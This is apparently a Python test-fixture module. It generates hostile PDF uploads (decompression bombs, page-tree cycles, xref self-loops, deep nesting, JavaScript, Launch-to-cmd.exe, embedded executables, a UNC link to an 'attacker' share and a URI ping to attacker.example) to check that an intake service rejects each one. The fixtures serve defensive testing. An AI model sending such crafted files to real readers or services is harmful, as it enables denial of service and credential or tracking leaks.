"""Hostile uploads for intake, made by code: what a broken scanner, a phone or an
attacker sends.  Each must get a clear 4xx and leave nothing behind."""
from __future__ import annotations

import io
import zlib

from tests.pdfs import scan_pdf


def raw_pdf(objects: dict[int, bytes], root: int = 1, trailer_extra: bytes = b"") -> bytes:
    """A PDF written by hand: ``objects`` maps numbers to their bodies; xref computed."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number in sorted(objects):
        offsets[number] = out.tell()
        out.write(b"%d 0 obj\n" % number + objects[number] + b"\nendobj\n")
    xref = out.tell()
    size = max(objects) + 1
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % size)
    for number in range(1, size):
        if number in offsets:
            out.write(b"%010d 00000 n \n" % offsets[number])
        else:
            out.write(b"0000000000 65535 f \n")
    out.write(b"trailer\n<< /Size %d /Root %d 0 R %s>>\nstartxref\n%d\n%%%%EOF\n"
              % (size, root, trailer_extra, xref))
    return out.getvalue()


def stream(data: bytes, extra: bytes = b"", flate: bool = False) -> bytes:
    if flate:
        data = zlib.compress(data, 9)
        extra += b" /Filter /FlateDecode"
    return b"<< /Length %d %s >>\nstream\n" % (len(data), extra) + data + b"\nendstream"


PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R %s>>"


def one_page(page_extra: bytes = b"", catalog_extra: bytes = b"", content: bytes | None = None,
             more: dict[int, bytes] | None = None, count: int = 1) -> bytes:
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R %s>>" % catalog_extra,
        2: b"<< /Type /Pages /Kids [3 0 R] /Count %d >>" % count,
        3: PAGE % page_extra,
        4: content or stream(b"BT /F1 12 Tf 72 720 Td (scan) Tj ET"),
    }
    objects.update(more or {})
    return raw_pdf(objects)


def _bomb(size: int) -> bytes:
    """``size`` zero bytes, deflated (about size / 1000)."""
    compressor = zlib.compressobj(9)
    block = b"\0" * (16 * 2**20)
    parts = [compressor.compress(block) for _ in range(size // len(block))]
    return b"".join(parts) + compressor.flush()


def corpus(bomb_size: int = 300 * 2**20) -> dict[str, tuple[bytes, str]]:
    """name → (file, words the refusal's English message must contain; "a|b": either)."""
    bomb = _bomb(bomb_size)
    good = scan_pdf(pages=1, dpi=72)
    many_kids = b" ".join(b"%d 0 R" % n for n in range(10, 10010))
    many_pages = {n: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
                     b"/Contents 4 0 R >>" for n in range(10, 10010)}
    files = {
        "empty": (b"", "empty"),
        "text": (b"Hello, this is a letter, not a scan.", "not a PDF"),
        "png": (b"\x89PNG\r\n\x1a\n" + b"\0" * 200, "not a PDF"),
        "docx_zip": (b"PK\x03\x04" + b"\0" * 300 + b"%PDF-1.7", "not a PDF"),
        "html_polyglot": (b"<html><!-- %PDF-1.7 --></html>" + good, "not a PDF"),
        "pdf_then_zip": (good + b"PK\x03\x04" + b"z" * 8000, "end"),
        "truncated": (good[: len(good) // 2], "damaged"),
        "header_only": (b"%PDF-1.7\n%%EOF\n", "damaged"),
        "garbage_body": (b"%PDF-1.7\n" + b"\x13\x37" * 3000 + b"\n%%EOF\n", "damaged"),
        "no_root": (raw_pdf({1: b"<< /Type /Pages /Kids [] /Count 0 >>"}, root=9), "damaged"),
        "zero_pages": (raw_pdf({1: b"<< /Type /Catalog /Pages 2 0 R >>",
                                2: b"<< /Type /Pages /Kids [] /Count 0 >>"}), "no page"),
        "count_lie": (one_page(count=1000000), "says it has"),
        "kids_not_array": (raw_pdf({1: b"<< /Type /Catalog /Pages 2 0 R >>",
                                    2: b"<< /Type /Pages /Kids 7 /Count 1 >>"}), "page tree"),
        "kid_is_a_number": (raw_pdf({1: b"<< /Type /Catalog /Pages 2 0 R >>",
                                     2: b"<< /Type /Pages /Kids [42] /Count 1 >>"}),
                            "page tree"),
        "page_tree_cycle": (raw_pdf({1: b"<< /Type /Catalog /Pages 2 0 R >>",
                                     2: b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"}),
                            "page tree"),
        "page_listed_twice": (raw_pdf({1: b"<< /Type /Catalog /Pages 2 0 R >>",
                                       2: b"<< /Type /Pages /Kids [3 0 R 3 0 R] /Count 2 >>",
                                       3: PAGE % b"", 4: stream(b"")}), "page tree"),
        "ten_thousand_pages": (raw_pdf({1: b"<< /Type /Catalog /Pages 2 0 R >>",
                                        2: b"<< /Type /Pages /Kids [%s] /Count 10000 >>"
                                           % many_kids, 4: stream(b""), **many_pages}),
                               "pages"),
        "no_media_box": (raw_pdf({1: b"<< /Type /Catalog /Pages 2 0 R >>",
                                  2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                                  3: b"<< /Type /Page /Parent 2 0 R /Contents 4 0 R >>",
                                  4: stream(b"")}), "size"),
        "zero_media_box": (raw_pdf({1: b"<< /Type /Catalog /Pages 2 0 R >>",
                                    2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                                    3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 0 0] >>"}),
                           "size"),
        "huge_media_box": (raw_pdf({1: b"<< /Type /Catalog /Pages 2 0 R >>",
                                    2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                                    3: b"<< /Type /Page /Parent 2 0 R "
                                       b"/MediaBox [0 0 1000000000 1000000000] >>"}), "size"),
        "text_media_box": (raw_pdf({1: b"<< /Type /Catalog /Pages 2 0 R >>",
                                    2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                                    3: b"<< /Type /Page /Parent 2 0 R "
                                       b"/MediaBox [(a) (b) (c) (d)] >>"}), "size"),
        "deep_array": (one_page(page_extra=b"/Foo " + b"[" * 50000 + b"]" * 50000),
                       "deeply"),
        "deep_dictionary": (one_page(page_extra=b"/Foo " + b"<< /A " * 20000
                                     + b"1" + b" >>" * 20000), "deeply|damaged"),
        "nested_70": (one_page(page_extra=b"/Foo " + b"[" * 70 + b"]" * 70), "deeply"),
        "content_bomb": (one_page(content=b"<< /Length %d /Filter /FlateDecode >>\nstream\n"
                                  % len(bomb) + bomb + b"\nendstream"), "bomb"),
        "image_bomb": (one_page(page_extra=b"/Resources << /XObject << /Im 5 0 R >> >>",
                                more={5: b"<< /Type /XObject /Subtype /Image /Width 16384 "
                                         b"/Height 16384 /ColorSpace /DeviceGray "
                                         b"/BitsPerComponent 8 /Filter /FlateDecode "
                                         b"/Length %d >>\nstream\n" % len(bomb) + bomb
                                         + b"\nendstream"}), "bomb"),
        "image_32768_squared": (one_page(
            page_extra=b"/Resources << /XObject << /Im 5 0 R >> >>",
            more={5: stream(b"\xff\xd8\xff\xd9", b"/Type /XObject /Subtype /Image "
                            b"/Width 32768 /Height 32768 /ColorSpace /DeviceRGB "
                            b"/BitsPerComponent 8 /Filter /DCTDecode")}), "pixels"),
        "image_negative_size": (one_page(
            page_extra=b"/Resources << /XObject << /Im 5 0 R >> >>",
            more={5: stream(b"\xff\xd8\xff\xd9", b"/Type /XObject /Subtype /Image "
                            b"/Width -5 /Height 10 /Filter /DCTDecode")}), "pixels"),
        "object_stream_bomb": (raw_pdf({
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", 3: PAGE % b"",
            4: stream(b""),
            6: b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\n"
               b"stream\n" % len(bomb) + bomb + b"\nendstream"}), "bomb"),
        "unknown_filter": (one_page(content=stream(b"x", b"/Filter /Crypt2000")),
                           "compression"),
        "lzw_big": (one_page(content=stream(b"\x80" * (5 * 2**20), b"/Filter /LZWDecode")),
                    "compression"),
        "broken_flate": (one_page(content=stream(b"this is not deflate", b"/Filter /FlateDecode")),
                         "damaged"),
        "open_action_js": (one_page(catalog_extra=b"/OpenAction << /S /JavaScript "
                                                  b"/JS (app.alert(1)) >>"), "active content"),
        "catalog_aa": (one_page(catalog_extra=b"/AA << /WC << /S /JavaScript /JS (x) >> >>"),
                       "active content"),
        "launch_annotation": (one_page(
            page_extra=b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] "
                       b"/A << /S /Launch /F (cmd.exe) >> >>]"), "active content"),
        "embedded_files": (one_page(catalog_extra=b"/Names << /EmbeddedFiles << /Names "
                                                  b"[(a.exe) 5 0 R] >> >>",
                                    more={5: b"<< /Type /Filespec /F (a.exe) >>"}),
                           "active content"),
        "xfa_form": (one_page(catalog_extra=b"/AcroForm << /Fields [] /XFA 5 0 R >>",
                              more={5: stream(b"<xdp:xdp/>")}), "active content"),
        "rich_media": (one_page(page_extra=b"/Annots [<< /Type /Annot /Subtype /RichMedia "
                                           b"/Rect [0 0 10 10] >>]"), "active content"),
        "page_aa": (one_page(page_extra=b"/AA << /O << /S /JavaScript /JS (x) >> >>"),
                    "active content"),
        "file_attachment": (one_page(page_extra=b"/Annots [<< /Type /Annot /Subtype "
                                                b"/FileAttachment /Rect [0 0 10 10] >>]"),
                            "active content"),
    }
    files.update(foreign_content())
    files["xref_prev_loop"] = (xref_prev_loop(), "damaged")
    return files


def _field(name: bytes, kind: bytes, extra: bytes = b"") -> dict[int, bytes]:
    """A form field with its widget on the page (object 5)."""
    return {5: b"<< /Type /Annot /Subtype /Widget /FT %s /T (%s) /Rect [0 0 100 20] "
               b"/P 3 0 R %s>>" % (kind, name, extra)}


def foreign_content() -> dict[str, tuple[bytes, str]]:
    """What a scan never has, in every place the issue's probe found it (each refused with
    "active content or forms"): outlines, a field's parent, associated files, 3D, links to
    other files and the web, named actions, the signer's own field names, permissions."""
    refused = "active content"
    outline = (b"/Outlines 6 0 R", {6: b"<< /Type /Outlines /First 7 0 R /Last 7 0 R "
                                       b"/Count 1 >>"})
    return {
        "outline_javascript": (one_page(catalog_extra=outline[0], more={
            **outline[1], 7: b"<< /Title (Ch\365\306ng 1) /Parent 6 0 R "
                             b"/A << /S /JavaScript /JS (app.launchURL('http://x')) >> >>"}),
            refused),
        "outline_launch": (one_page(catalog_extra=outline[0], more={
            **outline[1], 7: b"<< /Title (Open) /Parent 6 0 R "
                             b"/A << /S /Launch /F (cmd.exe) >> >>"}), refused),
        "field_parent_aa": (one_page(
            page_extra=b"/Annots [5 0 R]",
            catalog_extra=b"/AcroForm << /Fields [8 0 R] >>",
            more={5: b"<< /Type /Annot /Subtype /Widget /Parent 8 0 R /Rect [0 0 10 10] "
                     b"/P 3 0 R >>",
                  8: b"<< /FT /Tx /T (name) /Kids [5 0 R] "
                     b"/AA << /K << /S /JavaScript /JS (event.value='x') >> >> >>"}), refused),
        "associated_exe": (one_page(
            catalog_extra=b"/AF [6 0 R]",
            more={6: b"<< /Type /Filespec /F (setup.exe) /AFRelationship /Data "
                     b"/EF << /F 7 0 R >> >>",
                  7: stream(b"MZ\x90\x00" + b"\0" * 60 + b"This program cannot be run in "
                            b"DOS mode.", b"/Type /EmbeddedFile")}), refused),
        "annotation_3d": (one_page(page_extra=b"/Annots [<< /Type /Annot /Subtype /3D "
                                              b"/Rect [0 0 100 100] /3DD 6 0 R >>]",
                                   more={6: stream(b"U3D", b"/Type /3D /Subtype /U3D")}),
                          refused),
        "gotor_unc": (one_page(page_extra=b"/Annots [<< /Type /Annot /Subtype /Link "
                                          b"/Rect [0 0 100 100] /A << /S /GoToR "
                                          # a UNC path: \\attacker\share\x.pdf
                                          b"/F (\\\\\\\\attacker\\\\share\\\\x.pdf) "
                                          b"/D [0 /Fit] >> >>]"),
                      refused),
        "uri_open_action": (one_page(catalog_extra=b"/OpenAction << /S /URI "
                                                   b"/URI (http://attacker.example/ping) >>"),
                            refused),
        "named_action": (one_page(catalog_extra=b"/OpenAction << /S /Named /N /Print >>"),
                         refused),
        "prefilled_leader_field": (one_page(
            page_extra=b"/Annots [5 0 R]", catalog_extra=b"/AcroForm << /Fields [5 0 R] >>",
            more=_field(b"ChuKyLanhDao", b"/Sig")), "forms"),
        "prefilled_register_number": (one_page(
            page_extra=b"/Annots [5 0 R]", catalog_extra=b"/AcroForm << /Fields [5 0 R] >>",
            more=_field(b"SoChungThuc", b"/Tx", b"/V (1) ")), "forms"),
        "perms_docmdp": (one_page(
            catalog_extra=b"/Perms << /DocMDP 6 0 R >>",
            more={6: b"<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached "
                     b"/Reference [<< /Type /SigRef /TransformMethod /DocMDP "
                     b"/TransformParams << /P 1 /V /1.2 >> >>] >>"}), "forms"),
    }


def xref_prev_loop() -> bytes:
    """A small PDF whose cross-reference table says the previous one is itself: pypdf
    loops on it for ever (the issue measured 602 bytes, 100 % CPU until killed)."""
    head = one_page()
    start = head.rindex(b"startxref")
    xref = head.rindex(b"xref\n0 ")
    trailer_at = head.rindex(b"trailer\n<<")
    return head[:trailer_at] + head[trailer_at:start].replace(
        b"<< /Size", b"<< /Prev %d /Size" % xref) + head[start:]


def encrypted_pdf() -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(scan_pdf())))
    writer.encrypt("secret")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()
